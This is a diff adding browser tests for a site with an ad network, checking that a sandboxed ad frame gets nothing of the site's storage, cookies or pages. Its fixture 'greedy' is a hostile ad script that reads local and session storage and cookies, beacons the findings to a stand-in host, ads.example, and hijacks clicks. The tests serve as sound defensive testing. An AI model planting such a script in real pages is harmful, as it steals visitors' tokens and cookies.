@@ -219,5 +219,66 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
       await expect(page).toHaveURL(GUIDE);
       expect(await keptBy(page)).toEqual(["local storage plainrate-ads"]);
     });
+
+    // Sends home what it finds of the site's, and opens the frame's page in a window when its ad is pressed.
+    const greedy = `
+      const reads = {
+        local: () => localStorage.getItem("kept"),
+        session: () => sessionStorage.getItem("kept"),
+        cookie: () => document.cookie,
+        page: async () => (await fetch("/offers")).ok,
+      };
+      (async () => {
+        const found = [];
+        for (const [name, read] of Object.entries(reads)) try { if (await read()) found.push(name); } catch {}
+        new Image().src = "https://ads.example/found?" + found;
+      })();
+      addEventListener("click", () => open(location.href));
+      for (const { element } of adsbygoogle) element.append("An ad");`;
+
+    /** What a visitor and an editor would not give away. */
+    const keepThings = (page: Page) =>
+      page.evaluate(() => {
+        for (const storage of [localStorage, sessionStorage]) storage.setItem("kept", "a debt");
+        document.cookie = "kept=a-token; path=/";
+      });
+
+    for (const [host, hasHeaders] of [
+      ["a host that sends headers", true],
+      ["a host that sends none", false],
+    ] as const) {
+      test.describe(`on ${host}`, () => {
+        test.beforeEach(async ({ context }) => {
+          if (hasHeaders) return;
+          await context.route("**/ad-frame", async (route) => {
+            const response = await route.fetch();
+            await route.fulfill({ response, headers: { "content-type": "text/html" } });
+          });
+        });
+
+        test("gets nothing in the frame's page when that is opened by itself", async ({ page, baseURL }) => {
+          const asked = await open(page, GUIDE, greedy);
+          await keepThings(page);
+          await page.goto("/ad-frame#slot=1&format=rectangle");
+          expect(asked).toEqual([]);
+          expect(await page.evaluate(() => origin)).toBe(hasHeaders ? "null" : baseURL);
+        });
+
+        test("gets nothing in the frame's page when an ad opens it in a window", async ({ page, context }) => {
+          const asked = await open(page, GUIDE, greedy);
+          await keepThings(page);
+          await fillSlots(page);
+          const loads = () => asked.filter((address) => address.endsWith("/ads.js")).length;
+          const before = loads();
+          const [opened] = await Promise.all([context.waitForEvent("page"), adIn(slots(page).first()).click()]);
+          await opened.waitForLoadState();
+          expect(new URL(opened.url()).pathname).toBe("/ad-frame");
+          expect(loads()).toBe(before);
+          expect([...new Set(asked.filter((address) => address.includes("/found")))]).toEqual([
+            "https://ads.example/found?",
+          ]);
+        });
+      });
+    }
   });
 });
